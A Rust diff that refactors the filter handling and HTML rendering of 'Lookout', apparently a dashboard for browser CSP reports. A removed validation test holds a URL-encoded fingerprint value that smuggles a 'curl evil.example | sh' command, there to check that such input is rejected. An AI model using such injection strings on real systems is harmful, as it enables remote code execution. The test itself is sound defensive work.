@@ -4,9 +4,10 @@ use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write;
 
 use super::chart::{PALETTE, sparkline, stacked_days};
-use super::html::{escape, href};
+use super::filters::{Filters, Fingerprint, Window, family};
+use super::html::escape;
 use super::shell::shell_quote;
-use crate::report::{Report, Timestamp};
+use crate::report::{Classification, Report, Timestamp};
 use crate::store::{GroupSummary, SiteSummary};
 
 /// Reports listed per page of one problem.
@@ -18,162 +19,6 @@ pub const PROBLEMS_PER_PAGE: usize = 100;
 /// The last page a view offers (from 0): a problem's page reads up to
 /// `(MAX_PAGE + 1) * PAGE_SIZE` reports, and no URL asks for more.
 pub const MAX_PAGE: usize = 400;
-
-/// Whether `s` is a problem's fingerprint as `lookout top` prints it: 16 lowercase hex digits.
-pub fn is_fingerprint(s: &str) -> bool {
-    s.len() == 16 && s.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'))
-}
-
-/// The views' time windows.
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum Window {
-    /// The last 24 hours.
-    Day,
-    /// The last 7 days.
-    Week,
-    /// The last 30 days.
-    Month,
-}
-
-impl Window {
-    /// As written in the URL and given to `--since`.
-    pub fn as_str(self) -> &'static str {
-        match self {
-            Self::Day => "24h",
-            Self::Week => "7d",
-            Self::Month => "30d",
-        }
-    }
-
-    fn parse(s: &str) -> Option<Self> {
-        [Self::Day, Self::Week, Self::Month]
-            .into_iter()
-            .find(|w| w.as_str() == s)
-    }
-
-    /// The oldest time the window holds, from `now`.
-    pub fn since(self, now: Timestamp) -> Timestamp {
-        let days = match self {
-            Self::Day => 1,
-            Self::Week => 7,
-            Self::Month => 30,
-        };
-        now.minus_millis(days * 86_400_000)
-    }
-}
-
-/// What a view shows, as kept in its URL's query.
-#[derive(Debug, Clone, PartialEq, Eq)]
-pub struct Filters {
-    /// The site.
-    pub site: String,
-    /// The time window.
-    pub window: Window,
-    /// Only this report type (empty: every type).
-    pub report_type: String,
-    /// Only this CSP classification (empty: any).
-    pub class: String,
-    /// Only problems a browser of this family sent (`Chrome`; empty: any).
-    pub browser: String,
-    /// Only problems with reports of this disposition (`enforce`, `report`; empty: any).
-    pub disposition: String,
-    /// One problem: its type is `report_type` (empty, or 16 lowercase hex digits).
-    pub fingerprint: String,
-    /// The page of the problems, or of an opened problem's reports, from 0 (at most
-    /// [`MAX_PAGE`]).
-    pub page: usize,
-}
-
-/// A view's query string that cannot be read.
-#[derive(Debug, thiserror::Error)]
-pub enum FilterError {
-    /// `window` is not one of the windows offered.
-    #[error("window is one of 24h, 7d, 30d")]
-    Window,
-    /// `page` is not a number from 0 to [`MAX_PAGE`].
-    #[error("page is a number from 0 to {MAX_PAGE}")]
-    Page,
-    /// `fingerprint` is not 16 lowercase hex digits.
-    #[error("fingerprint is 16 lowercase hex digits, as lookout top prints it")]
-    Fingerprint,
-}
-
-impl Filters {
-    /// Reads a view's query string; `site` when the query names none.
-    pub fn from_query(query: &str, site: &str) -> Result<Self, FilterError> {
-        let mut f = Filters {
-            site: site.to_owned(),
-            window: Window::Week,
-            report_type: String::new(),
-            class: String::new(),
-            browser: String::new(),
-            disposition: String::new(),
-            fingerprint: String::new(),
-            page: 0,
-        };
-        for (k, v) in form_urlencoded::parse(query.as_bytes()) {
-            let v = v.trim().to_owned();
-            match &*k {
-                "site" => f.site = v,
-                "window" if !v.is_empty() => {
-                    f.window = Window::parse(&v).ok_or(FilterError::Window)?;
-                }
-                "type" => f.report_type = v,
-                "class" => f.class = v,
-                "browser" => f.browser = v,
-                "disposition" => f.disposition = v,
-                "fingerprint" => {
-                    if !v.is_empty() && !is_fingerprint(&v) {
-                        return Err(FilterError::Fingerprint);
-                    }
-                    f.fingerprint = v;
-                }
-                "page" if !v.is_empty() => {
-                    f.page = v
-                        .parse::<usize>()
-                        .ok()
-                        .filter(|&p| p <= MAX_PAGE)
-                        .ok_or(FilterError::Page)?;
-                }
-                _ => {}
-            }
-        }
-        Ok(f)
-    }
-
-    /// The query pairs of this view (empty values are left out of links).
-    pub fn pairs(&self) -> Vec<(&'static str, String)> {
-        vec![
-            ("site", self.site.clone()),
-            ("window", self.window.as_str().to_owned()),
-            ("type", self.report_type.clone()),
-            ("class", self.class.clone()),
-            ("browser", self.browser.clone()),
-            ("disposition", self.disposition.clone()),
-        ]
-    }
-
-    fn link(&self, path: &str, extra: &[(&'static str, String)]) -> String {
-        let mut pairs = self.pairs();
-        for (k, v) in extra {
-            pairs.retain(|(name, _)| name != k);
-            pairs.push((k, v.clone()));
-        }
-        let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(k, v)| (*k, v.as_str())).collect();
-        href(path, &borrowed)
-    }
-
-    /// Whether a problem passes the browser and disposition filters (which `top` has not).
-    pub fn keeps(&self, g: &GroupSummary) -> bool {
-        (self.browser.is_empty() || g.browsers.iter().any(|b| family(b) == self.browser))
-            && (self.disposition.is_empty() || g.dispositions.contains(&self.disposition))
-    }
-}
-
-/// `Chrome 120` → `Chrome`.
-pub fn family(browser: &str) -> &str {
-    browser.rsplit_once(' ').map_or(browser, |(name, _)| name)
-}
 
 pub use crate::store::days_between;
 
@@ -233,21 +78,21 @@ fn filter_form(c: &Context<'_>) -> String {
     let any = |label: &str| (String::new(), label.to_owned());
     let mut types = vec![any("any type")];
     types.extend(c.types.iter().map(|t| (t.clone(), t.clone())));
-    if !f.report_type.is_empty() && !c.types.contains(&f.report_type) {
-        types.push((f.report_type.clone(), f.report_type.clone()));
+    let current = f.type_name();
+    if !current.is_empty() && !c.types.iter().any(|t| t == current) {
+        types.push((current.to_owned(), current.to_owned()));
     }
     let mut families = vec![any("any browser")];
     families.extend(c.families.iter().map(|b| (b.clone(), b.clone())));
     if !f.browser.is_empty() && !c.families.contains(&f.browser) {
         families.push((f.browser.clone(), f.browser.clone()));
     }
-    let classes: Vec<(String, String)> = ["", "violation", "allowed-by-policy", "indeterminate"]
-        .iter()
-        .map(|c| {
-            let text = if c.is_empty() { "any class" } else { c };
-            (c.to_string(), text.to_owned())
-        })
-        .collect();
+    let mut classes = vec![any("any class")];
+    classes.extend(
+        Classification::ALL
+            .iter()
+            .map(|c| (c.as_str().to_owned(), c.as_str().to_owned())),
+    );
     let dispositions: Vec<(String, String)> = ["", "enforce", "report"]
         .iter()
         .map(|d| {
@@ -255,15 +100,15 @@ fn filter_form(c: &Context<'_>) -> String {
             (d.to_string(), text.to_owned())
         })
         .collect();
-    let windows: Vec<(String, String)> = [Window::Day, Window::Week, Window::Month]
+    let windows: Vec<(String, String)> = Window::ALL
         .iter()
         .map(|w| (w.as_str().to_owned(), format!("last {}", w.as_str())))
         .collect();
     format!(
         r#"<form method="get" action="/"><label>site <input name="site" value="{site}"></label>{}{}{}{}{} <button>Show</button></form>"#,
         select("window", "window", f.window.as_str(), &windows),
-        select("type", "type", &f.report_type, &types),
-        select("class", "class", &f.class, &classes),
+        select("type", "type", current, &types),
+        select("class", "class", f.class_name(), &classes),
         select("disposition", "disposition", &f.disposition, &dispositions),
         select("browser", "browser", &f.browser, &families),
         site = escape(&f.site),
@@ -316,7 +161,26 @@ pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
     let shown = &groups[start..end];
     let mut body = format!("<h1>{}</h1>", escape(&f.site));
     body.push_str(&filter_form(c));
+    body.push_str(&reports_by_type(c, groups));
+    body.push_str(&problems_in_the_terminal(c, groups.len()));
+    body.push_str(
+        r#"<table id="problems"><thead><tr><th>#</th><th>reports</th><th title="distinct senders' networks, summed over days: evidence a forger cannot fake from one network">visitors</th><th>per day</th><th>type</th><th>class</th><th>disposition</th><th>problem</th><th>browsers</th><th>first seen</th><th>last seen</th></tr></thead><tbody>"#,
+    );
+    for (i, g) in shown.iter().enumerate() {
+        problem_row(&mut body, c, start + i + 1, g);
+    }
+    body.push_str("</tbody></table>");
+    if groups.is_empty() {
+        body.push_str("<p>No problems in this window.</p>");
+    } else if shown.is_empty() {
+        body.push_str("<p>No problems on this page.</p>");
+    }
+    body.push_str(&problem_pages(f, start, end, groups.len()));
+    layout(&format!("{} · Lookout", f.site), &body)
+}
 
+/// The chart of the reports per day, one series per type, with its totals and legend.
+fn reports_by_type(c: &Context<'_>, groups: &[GroupSummary]) -> String {
     let mut by_type: BTreeMap<String, BTreeMap<String, u64>> = BTreeMap::new();
     for g in groups {
         let days = by_type.entry(g.report_type.to_string()).or_default();
@@ -326,114 +190,112 @@ pub fn problems(c: &Context<'_>, groups: &[GroupSummary]) -> String {
     }
     let series: Vec<(String, BTreeMap<String, u64>)> = by_type.into_iter().collect();
     let total: u64 = groups.iter().map(|g| g.count).sum();
-    let _ = write!(
-        body,
+    let mut out = format!(
         r#"<h2>Reports per day by type</h2><p><span id="total-reports">{total}</span> report(s) in <span id="total-problems">{}</span> problem(s), last {}.</p>{}<p class="legend">"#,
         groups.len(),
-        f.window.as_str(),
+        c.filters.window.as_str(),
         stacked_days(&series, c.days)
     );
     for (k, (name, _)) in series.iter().enumerate() {
         let _ = write!(
-            body,
+            out,
             r#"<span><svg width="10" height="10"><rect width="10" height="10" fill="{}"/></svg> {}</span>"#,
             PALETTE[k % PALETTE.len()],
             escape(name)
         );
     }
-    body.push_str("</p>");
+    out.push_str("</p>");
+    out
+}
 
+/// The problems' heading: the `lookout top` that lists the `listed` problems, and a link to
+/// the suggested policy.
+fn problems_in_the_terminal(c: &Context<'_>, listed: usize) -> String {
+    let f = c.filters;
     let mut top = format!(
         "lookout top --site {} --since {} --limit {}",
         shell_quote(&f.site),
         f.window.as_str(),
-        groups.len().max(1)
+        listed.max(1)
     );
-    if !f.report_type.is_empty() {
-        let _ = write!(top, " --type {}", shell_quote(&f.report_type));
+    if let Some(t) = &f.report_type {
+        let _ = write!(top, " --type {}", shell_quote(t.as_str()));
     }
-    if !f.class.is_empty() {
-        let _ = write!(top, " --class {}", shell_quote(&f.class));
+    if let Some(class) = f.class {
+        let _ = write!(top, " --class {}", shell_quote(class.as_str()));
     }
     let browser_note = if f.browser.is_empty() && f.disposition.is_empty() {
         ""
     } else {
         " (the page keeps only the problems with reports of that browser family or disposition: `top --json` lists them in `browsers` and `dispositions`)"
     };
-    let _ = write!(
-        body,
+    format!(
         r#"<h2>Problems</h2><p class="muted">In the terminal: {}{browser_note}. <a href="{}">Suggested policy</a></p>"#,
         cli(&top, c.store_args),
         f.link("/policy", &[])
-    );
-    body.push_str(
-        r#"<table id="problems"><thead><tr><th>#</th><th>reports</th><th title="distinct senders' networks, summed over days: evidence a forger cannot fake from one network">visitors</th><th>per day</th><th>type</th><th>class</th><th>disposition</th><th>problem</th><th>browsers</th><th>first seen</th><th>last seen</th></tr></thead><tbody>"#,
-    );
-    for (i, g) in shown.iter().enumerate() {
-        let link = f.link(
-            "/problem",
-            &[
-                ("type", g.report_type.to_string()),
-                ("fingerprint", g.fingerprint.clone()),
-            ],
-        );
-        let _ = write!(
-            body,
-            r#"<tr data-fingerprint="{fp}" data-type="{t}" data-count="{n}"><td class="n">{rank}</td><td class="n">{n}</td><td class="n">{visitors}</td><td>{spark}</td><td>{t}</td><td>{class}</td><td>{disp}</td><td class="problem"><a href="{link}">{group}</a></td><td>{browsers}</td><td>{first}</td><td>{last}</td></tr>"#,
-            fp = escape(&g.fingerprint),
-            t = escape(g.report_type.as_str()),
-            n = g.count,
-            visitors = g.visitors,
-            rank = start + i + 1,
-            spark = sparkline(&g.days, c.days),
-            class = g.classification.map_or("", |c| c.as_str()),
-            disp = escape(&g.dispositions.join(", ")),
-            group = escape(&g.group),
-            browsers = escape(&g.browsers.join(", ")),
-            first = escape(&seconds(g.first_seen)),
-            last = escape(&seconds(g.last_seen)),
-        );
-    }
-    body.push_str("</tbody></table>");
-    if groups.is_empty() {
-        body.push_str("<p>No problems in this window.</p>");
-    } else if shown.is_empty() {
-        body.push_str("<p>No problems on this page.</p>");
-    }
-    let next = end < groups.len() && f.page < MAX_PAGE;
-    if f.page > 0 || next {
-        body.push_str(r#"<p class="pages">"#);
-        if f.page > 0 {
-            let _ = write!(
-                body,
-                r#"<a id="previous" href="{}">previous</a> "#,
-                f.link("/", &[("page", (f.page - 1).to_string())])
-            );
-        }
-        if !shown.is_empty() {
-            let _ = write!(
-                body,
-                "problems {} to {} of {}",
-                start + 1,
-                end,
-                groups.len()
-            );
-        }
-        if next {
-            let _ = write!(
-                body,
-                r#" <a id="next" href="{}">next</a>"#,
-                f.link("/", &[("page", (f.page + 1).to_string())])
-            );
-        }
-        body.push_str("</p>");
-    }
-    layout(&format!("{} · Lookout", f.site), &body)
+    )
 }
 
-/// One problem opened: its reports, newest first, a page at a time.
+/// One row of the problems table: problem `g`, ranked `rank`, linked to its reports.
+fn problem_row(body: &mut String, c: &Context<'_>, rank: usize, g: &GroupSummary) {
+    let link = c.filters.link(
+        "/problem",
+        &[
+            ("type", g.report_type.to_string()),
+            ("fingerprint", g.fingerprint.clone()),
+        ],
+    );
+    let _ = write!(
+        body,
+        r#"<tr data-fingerprint="{fp}" data-type="{t}" data-count="{n}"><td class="n">{rank}</td><td class="n">{n}</td><td class="n">{visitors}</td><td>{spark}</td><td>{t}</td><td>{class}</td><td>{disp}</td><td class="problem"><a href="{link}">{group}</a></td><td>{browsers}</td><td>{first}</td><td>{last}</td></tr>"#,
+        fp = escape(&g.fingerprint),
+        t = escape(g.report_type.as_str()),
+        n = g.count,
+        visitors = g.visitors,
+        spark = sparkline(&g.days, c.days),
+        class = g.classification.map_or("", |c| c.as_str()),
+        disp = escape(&g.dispositions.join(", ")),
+        group = escape(&g.group),
+        browsers = escape(&g.browsers.join(", ")),
+        first = escape(&seconds(g.first_seen)),
+        last = escape(&seconds(g.last_seen)),
+    );
+}
+
+/// The links to the previous and next pages of problems, when there are any; the page shows
+/// problems `start + 1` to `end` of `total`.
+fn problem_pages(f: &Filters, start: usize, end: usize, total: usize) -> String {
+    let next = end < total && f.page < MAX_PAGE;
+    if f.page == 0 && !next {
+        return String::new();
+    }
+    let mut out = String::from(r#"<p class="pages">"#);
+    if f.page > 0 {
+        let _ = write!(
+            out,
+            r#"<a id="previous" href="{}">previous</a> "#,
+            f.link("/", &[("page", (f.page - 1).to_string())])
+        );
+    }
+    if start < end {
+        let _ = write!(out, "problems {} to {} of {}", start + 1, end, total);
+    }
+    if next {
+        let _ = write!(
+            out,
+            r#" <a id="next" href="{}">next</a>"#,
+            f.link("/", &[("page", (f.page + 1).to_string())])
+        );
+    }
+    out.push_str("</p>");
+    out
+}
+
+/// One problem opened (`fingerprint`, of the filters' type): its reports, newest first, a page
+/// at a time.
 pub fn problem(
     f: &Filters,
+    fingerprint: &Fingerprint,
     store_args: &str,
     group: Option<&GroupSummary>,
     reports: &[Report],
@@ -461,7 +323,7 @@ pub fn problem(
             let _ = write!(
                 body,
                 "<h1>Problem {}</h1><p>Not seen in the last {}.</p>",
-                escape(&f.fingerprint),
+                escape(fingerprint.as_str()),
                 f.window.as_str()
             );
         }
@@ -469,8 +331,8 @@ pub fn problem(
     let query = format!(
         "lookout query --site {} --type {} --fingerprint {} --since {} --limit {} --json",
         shell_quote(&f.site),
-        shell_quote(&f.report_type),
-        shell_quote(&f.fingerprint),
+        shell_quote(f.type_name()),
+        shell_quote(fingerprint.as_str()),
         f.window.as_str(),
         f.page.saturating_add(1).saturating_mul(PAGE_SIZE)
     );
@@ -480,42 +342,48 @@ pub fn problem(
         cli(&query, store_args)
     );
     for r in reports {
-        let json = serde_json::to_string_pretty(r).unwrap_or_default();
-        let _ = write!(
-            body,
-            r#"<tr data-id="{id}"><td>{when}</td><td>{disp}</td><td>{browser}</td><td class="problem">{url}</td><td><details><summary>JSON</summary><pre>{json}</pre></details></td></tr>"#,
-            id = escape(&r.id),
-            when = escape(&seconds(r.occurred_at)),
-            disp = r.disposition.map_or("", |d| d.as_str()),
-            browser = escape(r.browser.as_deref().unwrap_or("")),
-            url = escape(&r.url),
-            json = escape(&json),
-        );
+        report_row(&mut body, r);
     }
     body.push_str("</tbody></table><p>");
     if f.page > 0 {
         let _ = write!(
             body,
             r#"<a href="{}">newer</a> "#,
-            problem_link(f, f.page - 1)
+            problem_link(f, fingerprint, f.page - 1)
         );
     }
     if more && f.page < MAX_PAGE {
         let _ = write!(
             body,
             r#"<a id="older" href="{}">older</a>"#,
-            problem_link(f, f.page + 1)
+            problem_link(f, fingerprint, f.page + 1)
         );
     }
     body.push_str("</p>");
     layout(&format!("{} · Lookout", f.site), &body)
 }
 
-fn problem_link(f: &Filters, page: usize) -> String {
+/// One row of a problem's reports: when, how, by which browser, on which page, and the
+/// report as JSON.
+fn report_row(body: &mut String, r: &Report) {
+    let json = serde_json::to_string_pretty(r).unwrap_or_default();
+    let _ = write!(
+        body,
+        r#"<tr data-id="{id}"><td>{when}</td><td>{disp}</td><td>{browser}</td><td class="problem">{url}</td><td><details><summary>JSON</summary><pre>{json}</pre></details></td></tr>"#,
+        id = escape(&r.id),
+        when = escape(&seconds(r.occurred_at)),
+        disp = r.disposition.map_or("", |d| d.as_str()),
+        browser = escape(r.browser.as_deref().unwrap_or("")),
+        url = escape(&r.url),
+        json = escape(&json),
+    );
+}
+
+fn problem_link(f: &Filters, fingerprint: &Fingerprint, page: usize) -> String {
     f.link(
         "/problem",
         &[
-            ("fingerprint", f.fingerprint.clone()),
+            ("fingerprint", fingerprint.to_string()),
             ("page", page.to_string()),
         ],
     )
@@ -609,49 +477,6 @@ pub fn families(groups: &[GroupSummary]) -> Vec<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn filters_round_trip_through_links() {
-        let f = Filters::from_query(
-            "site=a.example&window=30d&type=csp-violation&browser=Chrome",
-            "",
-        )
-        .unwrap();
-        assert_eq!(f.window, Window::Month);
-        let link = f.link("/", &[]).replace("&amp;", "&");
-        let back = Filters::from_query(link.trim_start_matches("/?"), "").unwrap();
-        assert_eq!(back, f);
-        assert!(Filters::from_query("window=1y", "").is_err());
-    }
-
-    #[test]
-    fn the_days_of_a_window_end_today() {
-        let now = Timestamp::parse_rfc3339("2026-12-03T10:00:00Z").unwrap();
-        let days = days_between(Window::Week.since(now), now);
-        assert_eq!(days.len(), 8);
-        assert_eq!(days[0], "2026-11-26");
-        assert_eq!(days[7], "2026-12-03");
-        assert_eq!(days_between(Window::Day.since(now), now).len(), 2);
-    }
-
-    #[test]
-    fn fingerprints_and_pages_are_checked() {
-        let f = Filters::from_query("fingerprint=0123456789abcdef&page=400", "").unwrap();
-        assert_eq!((f.fingerprint.as_str(), f.page), ("0123456789abcdef", 400));
-        for bad in [
-            "0123456789ABCDEF",
-            "0123456789abcde",
-            "0123456789abcdef0",
-            "0123456789abcdef%3Bcurl%20-s%20evil.example%7Csh",
-        ] {
-            let read = Filters::from_query(&format!("fingerprint={bad}"), "");
-            assert!(matches!(read, Err(FilterError::Fingerprint)), "{bad}");
-        }
-        for bad in ["401", "100000000000", "18446744073709551616", "-1", "x"] {
-            let read = Filters::from_query(&format!("page={bad}"), "");
-            assert!(matches!(read, Err(FilterError::Page)), "{bad}");
-        }
-    }
 
     fn group(i: usize, now: Timestamp) -> GroupSummary {
         GroupSummary {
